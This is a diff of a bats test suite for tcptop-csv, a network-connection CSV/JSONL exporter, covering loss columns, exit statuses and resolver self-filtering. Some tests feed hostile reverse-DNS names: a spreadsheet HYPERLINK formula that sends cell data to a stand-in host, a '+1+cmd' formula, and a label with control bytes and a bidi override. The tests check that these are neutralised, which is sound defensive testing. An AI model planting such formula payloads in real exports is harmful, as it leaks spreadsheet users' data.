@@ -8,6 +8,8 @@ load test_helper/stall
 
 CSVCHECK="$OUTPUT/tests/csvcheck"
 FIXED='timestamp,protocol,local_addr,local_port,remote_addr,remote_port,pid,process_name,state,bytes_in,bytes_out,packets_in,packets_out,rate_in_bytes_sec,rate_out_bytes_sec,rtt_us'
+# the loss codes lib/stream.h added after host, in loss_kinds[] order
+LOSS_MORE='loss_kprobe_missed,loss_walk_failed,loss_owners_full,loss_udp_peers_evicted'
 
 # Two snapshots: TCP and UDP, IPv4 and IPv6, an unowned connection, flags, loss counters.
 basic_script() {
@@ -125,11 +127,15 @@ both_parsers() {
 	assert_output --partial "status=64"
 }
 
+@test "--help's exit statuses are lib/contract.c's for tcptop-csv, and tcptop-csv(1) lists exactly them" {
+	exit_statuses_agree tcptop-csv tcptop-csv.1
+}
+
 @test "header row: the 16 fixed columns in order, then the documented extras" {
 	basic_script | "$GEN" >"$BATS_TEST_TMPDIR/s.tcpt"
 	run -0 tcptop-csv "$BATS_TEST_TMPDIR/s.tcpt"
 	[[ "${lines[0]}" == "$FIXED,"* ]] || fail "header: ${lines[0]}"
-	assert_line --index 0 "$FIXED,retransmits,interface,ifindex,netns,closed,begun_before,new,snapshot_seq,partial,loss_ringbuf,loss_flow_table_full,loss_flow_evicted,loss_agg_table_full,loss_agg_unknown_flow,loss_agg_gap,failed,cgroup,cgroup_path,connections,host"
+	assert_line --index 0 "$FIXED,retransmits,interface,ifindex,netns,closed,begun_before,new,snapshot_seq,partial,loss_ringbuf,loss_flow_table_full,loss_flow_evicted,loss_agg_table_full,loss_agg_unknown_flow,loss_agg_gap,failed,cgroup,cgroup_path,connections,host,$LOSS_MORE"
 	# every column of the header is documented in the man page's OUTPUT section
 	local page col
 	page=$(MANWIDTH=200 mandoc -Tascii "$TCPTOP_SRC/man/tcptop-csv.1" | col -bx)
@@ -407,7 +413,7 @@ PY
 		>"$BATS_TEST_TMPDIR/noend.tcpt"
 	run -65 tcptop-csv "$BATS_TEST_TMPDIR/noend.tcpt"
 	assert_output --partial "SNAP_BEGIN at byte $o5 inside snapshot 1"
-	assert_line --index 0 "$FIXED,retransmits,interface,ifindex,netns,closed,begun_before,new,snapshot_seq,partial,loss_ringbuf,loss_flow_table_full,loss_flow_evicted,loss_agg_table_full,loss_agg_unknown_flow,loss_agg_gap,failed,cgroup,cgroup_path,connections,host"
+	assert_line --index 0 "$FIXED,retransmits,interface,ifindex,netns,closed,begun_before,new,snapshot_seq,partial,loss_ringbuf,loss_flow_table_full,loss_flow_evicted,loss_agg_table_full,loss_agg_unknown_flow,loss_agg_gap,failed,cgroup,cgroup_path,connections,host,$LOSS_MORE"
 	[ "${#lines[@]}" -eq 5 ] # header, 3 rows, the message
 	# END inside snapshot 2 (its SNAP_END, record 8, cut out): a warning, its row kept
 	local o8 o9
@@ -646,7 +652,7 @@ feed_then_stall() {
 	cmp "$BATS_TEST_TMPDIR/want.csv" "$BATS_TEST_TMPDIR/out.csv"
 }
 
-@test "a signal before any input came, then the input ends empty: no 'empty input' error, 128+N" {
+@test "a signal before any input came, then the pipe ends empty: no 'empty input' error, 0 (nothing left unread)" {
 	# Ctrl-C a few ms into tcptop --replay --log: tcptop-agg stopped before it wrote anything
 	mkfifo "$BATS_TEST_TMPDIR/in"
 	tcptop-csv -o "$BATS_TEST_TMPDIR/out.csv" "$BATS_TEST_TMPDIR/in" 2>"$BATS_TEST_TMPDIR/err" 3>&- &
@@ -658,7 +664,8 @@ feed_then_stall() {
 	exec 5>&- # the end, with nothing written
 	st=0
 	wait "$pid" || st=$?
-	assert_equal "$st" 130
+	# the stop rule (tcptop(1) EXIT STATUS, Stops): the input was read to its end
+	assert_equal "$st" 0
 	run -0 cat "$BATS_TEST_TMPDIR/err"
 	assert_output ''
 	# without a signal, empty input stays an error
@@ -750,10 +757,11 @@ PY
 	[[ "$output" =~ ^((0|71|127)\ )+$ ]] || fail "statuses under memory limits: $output"
 }
 
-# A snapshot stream with cgroups, a failed connect and a collector that left features out.
+# A snapshot stream with cgroups, a failed connect and a collector that left features out:
+# udp-peers, and words no collector ever wrote (rtt retrans packets) or a newer one may.
 features_script() {
 	cat <<'S'
-header kind=snapshot missing="rtt retrans packets"
+header kind=snapshot missing="udp-peers rtt retrans packets quic"
 cgroup id=11 path="/system.slice/nginx.service"
 cgroup id=12 path="/system.slice/docker-0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef.scope"
 snap seq=1
@@ -774,9 +782,9 @@ import csv, sys
 rows = list(csv.DictReader(open(sys.argv[1], newline="")))
 assert len(rows) == 5, len(rows)
 a, b, c, d, e = rows
-# missing rtt, retrans, packets: empty, never 0
-for r in rows:
-    assert r["rtt_us"] == r["retransmits"] == r["packets_in"] == r["packets_out"] == "", r
+# udp-peers leaves no cell unknown; rtt, retrans, packets and quic are no words of the
+# contract (lib/contract.h): the cells keep their values
+assert (a["rtt_us"], a["retransmits"], a["packets_in"], a["packets_out"]) == ("900", "2", "3", "4"), a
 assert (a["cgroup"], a["cgroup_path"]) == ("nginx.service", "/system.slice/nginx.service"), a
 assert c["cgroup"] == "0123456789ab" and c["cgroup_path"].endswith(".scope"), c
 assert (c["state"], c["closed"], c["failed"]) == ("SYN_SENT", "1", "1"), c
@@ -787,22 +795,54 @@ assert all(r["connections"] == "1" for r in rows)
 print("ok")
 PY
 	assert_output ok
+	# missing cgroup: the cgroup cells are unknown, empty on every row, never a stale path
+	features_script | sed 's/^header .*/header kind=snapshot missing="cgroup owners"/' |
+		"$GEN" >"$BATS_TEST_TMPDIR/c.tcpt"
+	run -0 python3 -c '
+import csv, sys
+rows = list(csv.DictReader(open(sys.argv[1], newline="")))
+print(sorted({(r["cgroup"], r["cgroup_path"]) for r in rows}), rows[0]["rtt_us"])' \
+		<(tcptop-csv "$BATS_TEST_TMPDIR/c.tcpt")
+	assert_output "[('', '')] 900"
+}
+
+@test "the loss columns are lib/stream.h's loss codes: the collector's new ones appended after host" {
+	cat <<'S' | "$GEN" >"$BATS_TEST_TMPDIR/l.tcpt"
+header kind=snapshot
+snap seq=1 ringbuf=1 flow_table_full=2 flow_evicted=3 agg_table_full=4 agg_unknown_flow=5 agg_gap=6 kprobe_missed=7 walk_failed=8 owners_full=9 udp_peers_evicted=10
+row flow=1 src=10.0.0.1:443 dst=10.0.0.9:5000 pid=100 comm="nginx" in=10 out=1
+snapend
+end
+S
+	run -0 python3 -c '
+import csv, sys
+r = next(csv.DictReader(open(sys.argv[1], newline="")))
+print(" ".join("%s=%s" % (k[5:], v) for k, v in r.items() if k.startswith("loss_")))' \
+		<(tcptop-csv "$BATS_TEST_TMPDIR/l.tcpt")
+	assert_output "ringbuf=1 flow_table_full=2 flow_evicted=3 agg_table_full=4 agg_unknown_flow=5 agg_gap=6 kprobe_missed=7 walk_failed=8 owners_full=9 udp_peers_evicted=10"
+	run -0 tcptop-csv -f jsonl "$BATS_TEST_TMPDIR/l.tcpt"
+	assert_output --partial '"host":"testhost","loss_kprobe_missed":7,"loss_walk_failed":8,"loss_owners_full":9,"loss_udp_peers_evicted":10}'
+	# each is documented in tcptop-csv(1) and named in --help
+	run -0 tcptop-csv --help
+	assert_output --partial "loss_udp_peers_evicted"
+	MANWIDTH=200 mandoc -Tascii "$TCPTOP_SRC/man/tcptop-csv.1" | col -bx |
+		grep -q 'loss_udp_peers_evicted' || fail "tcptop-csv(1) lacks loss_udp_peers_evicted"
 }
 
 @test "--group process and --group cgroup: one row per group with sums and counts" {
 	features_script | "$GEN" >"$BATS_TEST_TMPDIR/f.tcpt"
 	run -0 tcptop-csv --group process "$BATS_TEST_TMPDIR/f.tcpt"
-	assert_line --index 1 --regexp '^[^,]*,,,,,,100,nginx,,30,3,,,30.00,0.00,,,'
-	assert_line --index 1 --regexp ',,,,2,testhost$'
+	assert_line --index 1 --regexp '^[^,]*,,,,,,100,nginx,,30,3,3,4,30.00,0.00,,,'
+	assert_line --index 1 --regexp ',,,,2,testhost,0,0,0,0$'
 	assert_line --index 4 --regexp '^[^,]*,,,,,,,,,80,0,'
 	[ "${#lines[@]}" -eq 5 ]
 	run -0 tcptop-csv -g cgroup -f jsonl "$BATS_TEST_TMPDIR/f.tcpt"
 	[ "${#lines[@]}" -eq 4 ]
 	assert_line --index 0 --partial '"pid":null,"process_name":null,"state":null,"bytes_in":30,'
-	assert_line --index 0 --partial '"cgroup":"nginx.service","cgroup_path":"/system.slice/nginx.service","connections":2,"host":"testhost"}'
+	assert_line --index 0 --partial '"cgroup":"nginx.service","cgroup_path":"/system.slice/nginx.service","connections":2,"host":"testhost",'
 	assert_line --index 1 --partial '"cgroup":"0123456789ab",'
 	assert_line --index 3 --partial '"bytes_in":80,'
-	assert_line --index 3 --partial '"cgroup":null,"cgroup_path":null,"connections":1,"host":"testhost"}'
+	assert_line --index 3 --partial '"cgroup":null,"cgroup_path":null,"connections":1,"host":"testhost",'
 	run -64 tcptop-csv --group host "$BATS_TEST_TMPDIR/f.tcpt"
 	assert_output --partial 'invalid (process or cgroup)'
 }
@@ -830,12 +870,12 @@ S
 		grep -qE '^ +remote_host$' || fail "remote_host is not in tcptop-csv(1)"
 	[ "${#lines[@]}" -eq 6 ]
 	# the first snapshot already has them: its rows waited for the answers
-	assert_line --index 1 --regexp '^2023-11-14T22:13:21.250Z,tcp,10.0.0.1,40000,93.184.216.34,443,.*,testhost,example.com$'
-	assert_line --index 2 --regexp ',2001:db8::2,5353,.*,testhost,six.example$'
+	assert_line --index 1 --regexp '^2023-11-14T22:13:21.250Z,tcp,10.0.0.1,40000,93.184.216.34,443,.*,testhost,0,0,0,0,example.com$'
+	assert_line --index 2 --regexp ',2001:db8::2,5353,.*,testhost,0,0,0,0,six.example$'
 	# ::ffff:127.0.0.1 is asked as 127.0.0.1, which the server does not know; 10.9.9.9 neither
-	assert_line --index 3 --regexp ',127.0.0.1,50000,.*,testhost,$'
-	assert_line --index 4 --regexp ',93.184.216.34,443,.*,testhost,example.com$'
-	assert_line --index 5 --regexp ',10.9.9.9,443,.*,testhost,$'
+	assert_line --index 3 --regexp ',127.0.0.1,50000,.*,testhost,0,0,0,0,$'
+	assert_line --index 4 --regexp ',93.184.216.34,443,.*,testhost,0,0,0,0,example.com$'
+	assert_line --index 5 --regexp ',10.9.9.9,443,.*,testhost,0,0,0,0,$'
 	# one question per address, in-addr.arpa for the mapped one
 	run -0 sort "$BATS_TEST_TMPDIR/dns.port.log"
 	assert_output "1.0.0.127.in-addr.arpa
@@ -845,13 +885,13 @@ S
 	# JSON Lines: the same names, null where none
 	run -0 tcptop-csv -f jsonl --resolve --dns-server "127.0.0.1:$DNS_PORT" \
 		"$BATS_TEST_TMPDIR/s.tcpt"
-	assert_line --index 0 --partial '"host":"testhost","remote_host":"example.com"}'
+	assert_line --index 0 --partial '"host":"testhost","loss_kprobe_missed":0,"loss_walk_failed":0,"loss_owners_full":0,"loss_udp_peers_evicted":0,"remote_host":"example.com"}'
 	assert_line --index 1 --partial '"remote_host":"six.example"}'
 	assert_line --index 2 --partial '"remote_host":null}'
 	assert_line --index 4 --partial '"remote_host":null}'
 }
 
-@test "--resolve: a hostile host name comes out sanitised and quoted, --excel-safe applies, and it parses" {
+@test "--resolve: a hostile host name comes out sanitised and quoted, never a live formula, and it parses" {
 	basic_script | "$GEN" >"$BATS_TEST_TMPDIR/s.tcpt"
 	# a label with a control byte, a comma, a quote, invalid UTF-8, ESC and a bidi override,
 	# starting with a formula character
@@ -868,12 +908,13 @@ bad = [b for b in data if (b < 0x20 and b != 0x0A) or b == 0x7F]
 assert not bad, bad' "$BATS_TEST_TMPDIR/h.csv"
 	run -0 awk -F '\t' '{ print $NF }' "$BATS_TEST_TMPDIR/h.csv.py"
 	assert_line --index 0 remote_host
-	assert_line --index 1 "$want"
+	# a PTR name is the peer's choice: the leading - gets its apostrophe without --excel-safe
+	assert_line --index 1 "'$want"
 	assert_line --index 2 "a b.example"
 	run -0 cat "$BATS_TEST_TMPDIR/h.csv"
-	assert_line --index 1 --partial ',testhost,"-ev\x01il,""q\xFF\x1B[31m\u{202E}.example"'
-	assert_line --index 2 --partial ',testhost,"a b.example"'
-	# --excel-safe: the leading - gets its apostrophe
+	assert_line --index 1 --partial ",testhost,0,0,0,0,\"'-ev\\x01il,\"\"q\\xFF\\x1B[31m\\u{202E}.example\""
+	assert_line --index 2 --partial ',testhost,0,0,0,0,"a b.example"'
+	# --excel-safe: the same
 	tcptop-csv --excel-safe --resolve --dns-server "127.0.0.1:$DNS_PORT" \
 		"$BATS_TEST_TMPDIR/s.tcpt" >"$BATS_TEST_TMPDIR/x.csv"
 	both_parsers "$BATS_TEST_TMPDIR/x.csv"
@@ -887,6 +928,25 @@ for line in sys.stdin:
 		< <(tcptop-csv -f jsonl --resolve --dns-server "127.0.0.1:$DNS_PORT" \
 			"$BATS_TEST_TMPDIR/s.tcpt")
 	assert_line --index 0 "$want"
+}
+
+@test "--resolve: PTR names that a spreadsheet would run (= + - @) are text, with or without --excel-safe" {
+	basic_script | "$GEN" >"$BATS_TEST_TMPDIR/s.tcpt"
+	start_dns '93.184.216.34==HYPERLINK("http://x.example/?"&A1,"ok")' 2001:db8::2=+1+cmd
+	for opts in "" --excel-safe; do
+		tcptop-csv $opts --resolve --dns-server "127.0.0.1:$DNS_PORT" "$BATS_TEST_TMPDIR/s.tcpt" \
+			>"$BATS_TEST_TMPDIR/f.csv"
+		run -0 python3 -c '
+import csv, sys
+for r in csv.DictReader(open(sys.argv[1], newline="")):
+    if r["remote_host"]:
+        print(r["remote_host"])' "$BATS_TEST_TMPDIR/f.csv"
+		assert_line --index 0 "'=HYPERLINK(\"http://x.example/?\"&A1,\"ok\")"
+		assert_line --index 1 "'+1+cmd"
+	done
+	# the other text cells keep their default: a process named -bash stays -bash
+	run -0 tcptop-csv --resolve --dns-server "127.0.0.1:$DNS_PORT" "$BATS_TEST_TMPDIR/s.tcpt"
+	refute_output --partial "'curl"
 }
 
 # csv_pid PARENT: the pid of tcptop-csv started by PARENT (a bash -c pipeline), once it runs.
@@ -965,7 +1025,7 @@ sockets() {
 	t1=$(date +%s%N)
 	[ "${#lines[@]}" -eq 31 ]
 	for i in $(seq 30); do
-		[[ "${lines[$i]}" == *,testhost, ]] || fail "row $i: ${lines[$i]}"
+		[[ "${lines[$i]}" == *,testhost,0,0,0,0, ]] || fail "row $i: ${lines[$i]}"
 	done
 	# the questions went out, unanswered
 	[ "$(sort -u "$BATS_TEST_TMPDIR/dns.port.log" | wc -l)" -eq 3 ]
@@ -974,23 +1034,34 @@ sockets() {
 	[ $(((t1 - t0) / 1000000)) -lt 3000 ] || fail "took $(((t1 - t0) / 1000000)) ms"
 }
 
-@test "--resolve leaves the resolver's own queries out (UDP from its port to the server's)" {
+@test "--resolve leaves out its own queries by who sent them: this pid, netns and host; the same ports from anyone else shown" {
 	start_dns
-	# the stream is written once csv's resolver socket is known: its own query, a flow from
-	# the same port elsewhere and one from another port to the server
-	cat >"$BATS_TEST_TMPDIR/script" <<'S'
-header kind=snapshot real=1700000000 interval=1
+	local netns boot
+	netns=$(stat -L -c %i /proc/self/ns/net)
+	boot=$(cat /proc/sys/kernel/random/boot_id)
+	# the stream is written once csv's resolver socket (LPORT) and pid (PID) are known: its own
+	# query, then the same flow from another process, another namespace, another host (boot
+	# id), from a port its socket never had, and another process's to the server
+	cat >"$BATS_TEST_TMPDIR/script" <<S
+header kind=snapshot real=1700000000 interval=1 boot=BOOT
 snap seq=1 time=1700000001
-row flow=1 proto=udp src=127.0.0.1:LPORT dst=127.0.0.1:SPORT pid=1 comm=tcptop-csv in=40 out=40
-row flow=2 proto=udp src=127.0.0.1:LPORT dst=127.0.0.1:5353 pid=2 comm=other in=1 out=1
-row flow=3 proto=udp src=127.0.0.1:40000 dst=127.0.0.1:SPORT pid=3 comm=dig in=1 out=1
+row flow=1 proto=udp src=127.0.0.1:LPORT dst=127.0.0.1:SPORT pid=PID comm=tcptop-csv in=40 out=40 netns=$netns
+row flow=2 proto=udp src=127.0.0.1:LPORT dst=127.0.0.1:SPORT pid=2 comm=other in=1 out=1 netns=$netns
+row flow=3 proto=udp src=127.0.0.1:LPORT dst=127.0.0.1:SPORT pid=PID comm=tcptop-csv in=2 out=2 netns=4026530000
+row flow=4 proto=udp src=127.0.0.1:40000 dst=127.0.0.1:SPORT pid=PID comm=tcptop-csv in=3 out=3 netns=$netns
+row flow=5 proto=udp src=127.0.0.1:40001 dst=127.0.0.1:SPORT pid=3 comm=dig in=4 out=4 netns=$netns
 snapend
 end
 S
+	sed "s/BOOT/00000000-0000-0000-0000-000000000000/" "$BATS_TEST_TMPDIR/script" \
+		>"$BATS_TEST_TMPDIR/script.other"
 	bg_start bash -c '
 		for _ in $(seq 200); do [ -s "$1/lport" ] && break; sleep 0.05; done
-		sed -e "s/LPORT/$(cat "$1/lport")/" -e "s/SPORT/$3/" "$1/script" | "$2"' \
-		bash "$BATS_TEST_TMPDIR" "$GEN" "$DNS_PORT" |
+		read -r pid lport <"$1/lport"
+		sed -e "s/LPORT/$lport/" -e "s/SPORT/$3/" -e "s/PID/$pid/" -e "s/BOOT/$4/" \
+			"$1/script" | "$2"
+		sed -e "s/LPORT/$lport/" -e "s/SPORT/$3/" -e "s/PID/$pid/" "$1/script.other" |
+			"$2"' bash "$BATS_TEST_TMPDIR" "$GEN" "$DNS_PORT" "$boot" |
 		tcptop-csv --resolve --dns-server "127.0.0.1:$DNS_PORT" \
 			>"$BATS_TEST_TMPDIR/out.csv" 3>&- &
 	local csv=$!
@@ -1002,10 +1073,18 @@ S
 		sleep 0.05
 	done
 	[ -n "$lport" ] || fail "no socket of tcptop-csv (pid $csv) in ss"
-	echo "$lport" >"$BATS_TEST_TMPDIR/lport"
+	echo "$csv $lport" >"$BATS_TEST_TMPDIR/lport"
 	wait "$csv"
-	run -0 cut -d, -f 4,6,8 "$BATS_TEST_TMPDIR/out.csv"
-	assert_output "local_port,remote_port,process_name
-$lport,5353,other
-40000,$DNS_PORT,dig"
+	# the first section: all but flow 1; the second (another host): all five
+	run -0 cut -d, -f 4,6,7,8,20 "$BATS_TEST_TMPDIR/out.csv"
+	assert_output "local_port,remote_port,pid,process_name,netns
+$lport,$DNS_PORT,2,other,$netns
+$lport,$DNS_PORT,$csv,tcptop-csv,4026530000
+40000,$DNS_PORT,$csv,tcptop-csv,$netns
+40001,$DNS_PORT,3,dig,$netns
+$lport,$DNS_PORT,$csv,tcptop-csv,$netns
+$lport,$DNS_PORT,2,other,$netns
+$lport,$DNS_PORT,$csv,tcptop-csv,4026530000
+40000,$DNS_PORT,$csv,tcptop-csv,$netns
+40001,$DNS_PORT,3,dig,$netns"
 }
